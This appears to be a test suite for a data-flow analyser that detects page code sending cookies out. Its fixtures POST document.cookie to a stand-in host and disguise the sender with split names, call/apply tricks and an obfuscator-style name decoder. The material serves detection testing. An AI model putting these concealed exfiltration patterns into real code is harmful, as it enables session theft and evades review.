import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../testing/flows-between.ts';
import { sentKinds } from '../../../testing/sent-kinds.ts';

const post = (value: string): string =>
  `fetch('https://in.a.dev/a', { method: 'POST', body: JSON.stringify(${value}) })`;

/** A list of names that is turned round before it is used, as obfuscators write it. */
const decoder = `function names() { const list = ['take', 'other', 'kept', 'drop']; names = () => list; return names(); }
function name(at) { at = at - 0x10; return names()[at]; }
(function (all, wanted) { const list = all(); while (true) { try { if (name(0x12) === wanted) break; list.push(list.shift()); } catch (e) { list.push(list.shift()); } } })(names, 'kept');`;

/** Members whose names stand in pieces; of two values one is sent. */
const pieced: Readonly<Record<string, string>> = {
  'a method': `class A { ['ta' + 'ke'](x) { ${post('x')} } ['ot' + 'her'](x) { void x; } } const a = new A(); a['t' + 'ake']({sent}); a['othe' + 'r']({kept});`,
  'a template as a name': `class A { [\`take\`](x) { ${post('x')} } other(x) { void x; } } const a = new A(); a.take({sent}); a.other({kept});`,
  'a static method': `class A { static ['ta' + 'ke'](x) { ${post('x')} } static other(x) { void x; } } A.take({sent}); A.other({kept});`,
  'a field': `class A { ['ta' + 'ke'] = (x) => { ${post('x')} }; other = (x) => { void x; }; } const a = new A(); a.take({sent}); a.other({kept});`,
  'a setter': `class A { set ['ta' + 'ke'](x) { ${post('x')} } set other(x) { void x; } } const a = new A(); a.take = {sent}; a.other = {kept};`,
  'a getter': `class A { get ['ta' + 'ke']() { return (x) => { ${post('x')} }; } other(x) { void x; } } const a = new A(); a.take({sent}); a.other({kept});`,
  'a pattern': `const { ['ta' + 'ke']: x, ['ot' + 'her']: y } = { take: {sent}, other: {kept} }; void y; ${post('x')};`,
  'an entry': `const o = { ['ta' + 'ke']: {sent}, ['ot' + 'her']: {kept} }; ${post('o.take')};`,
  'a method with a decoded name': `${decoder} class A { [name(0x10)](x) { ${post('x')} } [name(0x11)](x) { void x; } } const a = new A(); a[name(0x10)]({sent}); a[name(0x11)]({kept});`,
  'fields with decoded names': `${decoder} class A { [name(0x10)] = []; [name(0x12)] = []; add(x, y) { this[name(0x10)].push(x); this[name(0x12)].push(y); } send() { ${post('this[name(0x10)]')} } } const a = new A(); a.add({sent}, {kept}); a.send();`,
};

/** Functions that work on the object of whoever calls them; of its two members one is sent. */
const lent: Readonly<Record<string, string>> = {
  'a method, by call': `function go() { ${post('this.x')} } class A { constructor() { this.x = {sent}; this.y = {kept}; } send() { go.call(this); } } new A().send();`,
  'a method, by apply': `class A { constructor() { this.x = {sent}; this.y = {kept}; } send() { return go.apply(this, arguments); } } const go = function () { ${post('this.x')} }; new A().send();`,
  'a method that hands it on': `function last() { ${post('this.x')} } function go() { last.call(this); } class A { constructor() { this.x = {sent}; this.y = {kept}; } send() { go.call(this); } } new A().send();`,
  'a member of a prototype': `function A() { this.x = {sent}; this.y = {kept}; } A.prototype.send = (function () { const go = function () { ${post('this.x')} }; function send() { return go.apply(this, arguments); } return send; })(); new A().send();`,
  'a function that a function makes a member': `function A() { this.x = {sent}; this.y = {kept}; } A.prototype.send = (function () { function send() { ${post('this.x')} } return send; })(); new A().send();`,
  'a class of a compiler': `function _createClass(e, r) { for (let t = 0; t < r.length; t++) Object.defineProperty(e.prototype, r[t].key, r[t]); return Object.defineProperty(e, 'prototype', { writable: false }), e; } const A = (function () { function A() { this.x = {sent}; this.y = {kept}; } var _proto = A.prototype; _proto.send = (function () { var _send = function () { ${post('this.x')} }; function send() { return _send.apply(this, arguments); } return send; })(); return _createClass(A); })(); new A().send();`,
};

/** What is lost where a name is trusted that changes, or one object is taken for all. */
const changing: Readonly<Record<string, string>> = {
  'an entry that was put under another name': `const t = { a: (x) => { void x; }, b: (x) => { ${post('x')} } }; [t.a, t.b] = [t.b, t.a]; const k = 'a'; t[k](document.cookie);`,
  'a name that is given later': `const names = { go: 'a' }; const t = { a: (x) => { void x; }, b: (x) => { ${post('x')} } }; Object.assign(names, { go: 'b' }); t[names.go](document.cookie);`,
  'an entry by a name that is given later': `const names = { go: 'a' }; names.go = 'b'; const t = { [names.go]: (x) => { ${post('x')} } }; t.b(document.cookie);`,
  'a function that is lent to two objects': `function go() { ${post('this.x')} } const a = { x: 5 }; const b = { x: document.cookie }; go.call(a); go.call(b);`,
  'a function that is lent to itself too': `function go() { ${post('this.x')} } go.x = document.cookie; go.call(go); go.call({ x: 5 });`,
  'a method that another of the name hides': `class A { ['ta' + 'ke'](x) { void x; } take(x) { ${post('x')} } } new A().take(document.cookie);`,
  'an own function named as a helper of a compiler': `function _read(x) { return x.cookie; } ${post('_read(document)')};`,
  'a list of methods that two classes share': `function define(e, r) { for (const each of r) Object.defineProperty(e, each.key, each); } var methods; class A {} class B {} methods = [{ key: 'go', value(x) { ${post('x')} } }], define(A.prototype, methods), define(B.prototype, methods); new A().go(5); new B().go(document.cookie);`,
};

describe('cookies are followed through', () => {
  for (const [name, code] of Object.entries(changing)) {
    it(name, () => {
      assert.ok(sentKinds('page', code).has('cookies'));
    });
  }
});

it('a method is not taken for one that another of the name hides', () => {
  const code = `class A { ['ta' + 'ke'](x) { ${post('x')} } take(x) { void x; } } new A().take(document.cookie);`;
  assert.ok(!sentKinds('page', code).has('cookies'));
});

for (const [what, rows] of Object.entries({
  'where names stand in pieces': pieced,
  'where a function is lent to': lent,
}))
  describe(`of two values the one that is sent is followed ${what}`, () => {
    for (const [name, code] of Object.entries(rows)) {
      it(name, () => {
        const kinds = (sent: string, kept: string): ReadonlySet<string> =>
          sentKinds('page', code.replaceAll('{sent}', sent).replaceAll('{kept}', kept));
        assert.ok(kinds('document.cookie', '5').has('cookies'));
        assert.ok(!kinds('5', 'document.cookie').has('cookies'));
      });
    }
  });

it('a constructor that another calls is not taken for a function that is lent', () => {
  const code = `function Base(x) { this.x = x; } Base.prototype.send = function () { ${post('this.x')} };
    function A(x) { Base.call(this, x); } A.prototype = Object.create(Base.prototype); new A({x}).send();`;
  assert.ok(sentKinds('page', code.replace('{x}', 'document.cookie')).has('cookies'));
  assert.ok(!sentKinds('page', code.replace('{x}', '5')).has('cookies'));
});

it('the host of an address is known whose text is read by a name in pieces', () => {
  const [flow] = flowsBetween.whole(
    {
      'content.js': `const to = new URL('/a', 'https://in.' + 'a.dev'); fetch(to['hr' + 'ef'], { method: 'POST', body: document.cookie });`,
    },
    {},
  );
  assert.equal(flow?.host, 'in.a.dev');
});
